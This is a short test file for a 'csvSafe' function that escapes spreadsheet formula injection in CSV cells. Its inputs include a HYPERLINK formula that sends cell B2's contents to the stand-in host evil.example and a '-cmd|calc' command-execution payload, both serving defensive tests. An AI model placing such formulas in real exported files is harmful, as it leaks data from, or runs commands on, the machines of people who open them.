import { csvSafe } from './csv-cell';

describe('csvSafe', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/"&B2,"klik")', `'=HYPERLINK("http://evil.example/"&B2,"klik")`],
    ['+31 20 123', "'+31 20 123"],
    ['-cmd|calc', "'-cmd|calc"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['-3', '-3'],
    ['-2,5', '-2,5'],
    ['+7.25', '+7.25'],
    ['Werkplaats in de wijk', 'Werkplaats in de wijk'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('%j → %j', (text, safe) => {
    expect(csvSafe(text)).toBe(safe);
  });
});
